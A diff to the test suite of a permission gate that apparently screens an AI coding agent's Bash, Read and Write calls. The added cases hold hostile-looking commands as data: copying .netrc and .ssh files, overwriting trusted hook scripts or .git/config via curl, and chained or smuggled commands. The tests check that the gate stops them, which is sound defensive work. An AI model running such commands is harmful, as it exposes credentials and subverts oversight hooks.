@@ -607,6 +607,9 @@ def test_a_search_from_above(tmp_path: Path) -> None:
     assert verdict("Grep", pattern="x") == verdict("Glob", pattern="**/*.md", path=str(tmp_path)) == above
     for command in ("grep -rn x .", "grep x -ir .", "find . -name x", "ls -aR", "cat x | grep -r x ."):
         assert verdict("Bash", command=command)[0] is Verdict.ASK, command
+    allowing = Gate(str(tmp_path), tmp_path / ".claude", home=str(tmp_path), rules=["Bash(echo:*)"])
+    call = Call("Bash", {"command": "echo a; grep -r X"}, "default", str(tmp_path), "s")
+    assert allowing.judge(call, "default")[0] is Verdict.ASK
     for command in ("grep x notes.txt", "ls -la", "cat notes.txt | grep x"):
         assert verdict("Bash", command=command)[0] is Verdict.PASS, command
     for arguments in ({"pattern": "../../x/*", "path": "sub"}, {"pattern": "/etc/../etc/*", "path": "sub"}):
@@ -643,6 +646,9 @@ def test_hidden_files_of_the_home_folder(folder: str, tmp_path: Path, monkeypatc
             assert verdict("Bash", mode, command=f"cp x {path}") is Verdict.ASK, name
         for tool in ("Read", "Write"):
             assert not (folder == "" and gate.rules_for(tool, {"file_path": path})), name
+    if folder == "":
+        for command in ("cp p/.netrc .", "mv p/.ssh .", "cp -t . p/.netrc"):
+            assert verdict("Bash", "acceptEdits", command=command) is Verdict.ASK
     for name in ("notes.txt", "a/.env"):
         assert verdict("Read", file_path=str(work / name)) is Verdict.PASS
         assert verdict("Write", file_path=str(work / name), content="x") is Verdict.PASS
@@ -781,6 +787,7 @@ def test_git_after_cd(tmp_path: Path) -> None:
         "curl -so .git/config https://a.test; git log",
         "find cfg -fprint .git/config; git status",
         "sleep 4; git status",
+        "git status; python3 -m json.tool - .git/config",
         "cat cfg >|.git/config; git status",
         "git cat-file --filters HEAD:in.txt",
         "git cat-file --te HEAD:in.txt",
@@ -814,11 +821,12 @@ def test_git_elsewhere(command: str, tmp_path: Path) -> None:
         Gate(str(tmp_path), tmp_path / ".claude", home=str(tmp_path), rules=rules, trusted=trusted) for trusted in (False, True)
     )
 
-    def verdict(command: str, gate: Gate = plain) -> Verdict:
-        return gate.judge(Call("Bash", {"command": command}, "default", str(tmp_path), "s"), "default")[0]
+    def verdict(command: str, gate: Gate = plain, **arguments: bool) -> Verdict:
+        return gate.judge(Call("Bash", {"command": command, **arguments}, "default", str(tmp_path), "s"), "default")[0]
 
     assert verdict(command.replace("{base}", str(tmp_path))) is Verdict.ASK
     assert verdict(command.replace("{base}", str(tmp_path)), trusting) is Verdict.ASK
+    assert verdict("cat big | wc -c; git status") is verdict("git status", run_in_background=True) is Verdict.ASK
     for harmless in (
         "git status 2>/dev/null | head; git log 2>&1",
         "git status",
@@ -826,7 +834,7 @@ def test_git_elsewhere(command: str, tmp_path: Path) -> None:
         "cd lib && git status",
         'python digits.py --out "$HOME/x"',
         "git log --oneline --exclude=x HEAD~3",
-        "cd lib && pytest -q && git status --short | sort -u && echo done",
+        "cd lib && git status --short | sort -u && echo done && pytest -q",
         "git log --text --first-parent",
     ):
         assert verdict(harmless) is verdict(harmless, trusting) is Verdict.PASS, harmless
@@ -1224,7 +1232,7 @@ def test_changes_of_what_is_trusted(tmp_path: Path) -> None:
     (hooks := tmp_path / "hooks").mkdir()
     (tmp_path / ".claude").mkdir()
     (hooks / "check.sh").write_text("true\n")
-    settings = {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "sh hooks/check.sh"}]}]}}
+    settings = {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "sh hooks/check.sh; . hooks/local.sh"}]}]}}
     (tmp_path / ".claude/settings.json").write_text(json.dumps(settings))
     (tmp_path / "linked").symlink_to(hooks / "check.sh")
     os.link(hooks / "check.sh", tmp_path / "hard")
@@ -1297,10 +1305,18 @@ def test_changes_of_what_is_trusted(tmp_path: Path) -> None:
         "grep -l . hooks/check.sh |& xargs rm",
         "ls hooks/check.sh; ./w.sh $_",
         "find hooks/check.sh -delete",
+        "cp e.sh hooks/local.sh",
+        "git --namespace status checkout evil -- x",
+        "sort -uohooks/check.sh e.sh",
+        "curl -sohooks/check.sh https://a.test",
+        "/bin/tar xf a.tar",
+        "env tar xf a.tar",
+        "command cp -r evil/. .",
+        "nice -n5 /usr/bin/unzip a.zip",
         "set -- hooks/check.sh && ./w.sh $1",
     ):
         assert verdicts("Bash", command=command) == [Verdict.ASK, Verdict.PASS], command
-    for name in ("hooks/check.sh", "hooks/../hooks/check.sh", ".claude/settings.json"):
+    for name in ("hooks/check.sh", "hooks/../hooks/check.sh", ".claude/settings.json", "hooks/local.sh"):
         assert verdicts("Write", file_path=name, content="x") == [Verdict.ASK, Verdict.PASS], name
     assert verdicts("Write", file_path="hooks/other.sh", content="x") == [Verdict.PASS, Verdict.PASS]
     assert verdicts("Write", file_path="sub/hooks/check.sh", content="x") == [Verdict.ASK, Verdict.PASS]  # after `cd sub`
